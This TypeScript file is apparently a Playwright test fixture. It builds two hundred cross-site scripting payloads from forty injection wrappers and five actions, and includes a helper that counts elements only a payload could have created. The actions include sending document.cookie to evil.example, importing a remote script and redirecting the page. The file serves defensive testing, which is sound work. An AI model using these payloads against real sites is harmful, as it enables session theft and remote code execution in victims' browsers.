/** Two hundred strings that run something or call out where they are shown as markup, and what they leave behind then. */
import type { Page } from 'playwright-core'

/** What a payload does when it runs. */
const DEEDS = [
  'alert(1)',
  'hit()',
  "fetch('http://evil.example/'+document.cookie)",
  "import('http://evil.example/x.js')",
  "location='http://evil.example/'",
]

/** Ways to get a deed run: markup, handlers, addresses, styles, Markdown, templates, chart expressions, prototypes. */
export const WAYS: ((deed: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `"><script>${deed}</script>`,
  (deed) => `</script><script>${deed}</script>`,
  (deed) => `<ScRiPt>${deed}</sCrIpT>`,
  (deed) => `<img src=x onerror="${deed}">`,
  (deed) => `<img src="http://evil.example/a.png" onload="${deed}">`,
  (deed) => `"><img src=x onerror=${deed}//`,
  (deed) => `'><svg/onload=${deed}>`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<svg><animate onbegin="${deed}" attributeName=x dur=1s>`,
  (deed) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${deed}>#x"/></svg>`,
  (deed) => `<math><mtext><img src=x onerror="${deed}"></mtext></math>`,
  (deed) => `<iframe src="javascript:${deed}"></iframe>`,
  (deed) => `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
  (deed) => `<object data="javascript:${deed}"></object>`,
  (deed) => `<embed src="http://evil.example/x.swf"><!--${deed}-->`,
  (deed) => `<link rel=stylesheet href="http://evil.example/x.css"><!--${deed}-->`,
  (deed) => `<style>@import "http://evil.example/x.css";/*${deed}*/</style>`,
  (deed) => `<div style="background:url(http://evil.example/x.png)" onmouseover="${deed}">x</div>`,
  (deed) => `<meta http-equiv=refresh content="0;url=http://evil.example/?${deed}">`,
  (deed) => `<base href="http://evil.example/"><!--${deed}-->`,
  (deed) => `<form action="http://evil.example/"><input autofocus onfocus="${deed}">`,
  (deed) => `<details open ontoggle="${deed}">x</details>`,
  (deed) => `<video><source onerror="${deed}"></video>`,
  (deed) => `<body onload="${deed}">`,
  (deed) => `<a href="javascript:${deed}">click</a>`,
  (deed) => `javascript:${deed}`,
  (deed) => `data:text/html,<script>${deed}</script>`,
  (deed) => `[click](javascript:${deed})`,
  (deed) => `![x](http://evil.example/x.png "${deed}")`,
  (deed) => `![x](x "onerror=${deed}")`,
  (deed) => `{{constructor.constructor('${deed}')()}}`,
  (deed) => `\${${deed}}`,
  (deed) => `<%= ${deed} %>`,
  (deed) => `datum.x; ${deed}`,
  (deed) => `{"signal":"${deed.replaceAll('"', "'")}"}`,
  (deed) => `__proto__ ${deed}`,
  (deed) => `constructor" onclick="${deed}`,
  (deed) => `\u202e<img src=x onerror=${deed}>\u0000`,
  (deed) => `=HYPERLINK("http://evil.example/?${deed}")`,
]

/** Every way with every deed: two hundred. */
export const HOSTILE = WAYS.flatMap((way) => DEEDS.map((deed) => way(deed)))

/** Elements that only a payload can have made, in the page and in shadow trees. */
export const foreignElements = (page: Page) =>
  page.evaluate(() => {
    const made = 'img, iframe, object, embed, video, base, math, form[action], meta[http-equiv], a[href^="javascript:"]'
    const roots = [...document.querySelectorAll('*')].flatMap(({ shadowRoot }) => shadowRoot ?? [])
    const scripts = roots.flatMap((root) => [...root.querySelectorAll('script')])
    return [document, ...roots].reduce((sum, root) => sum + root.querySelectorAll(made).length, scripts.length)
  })
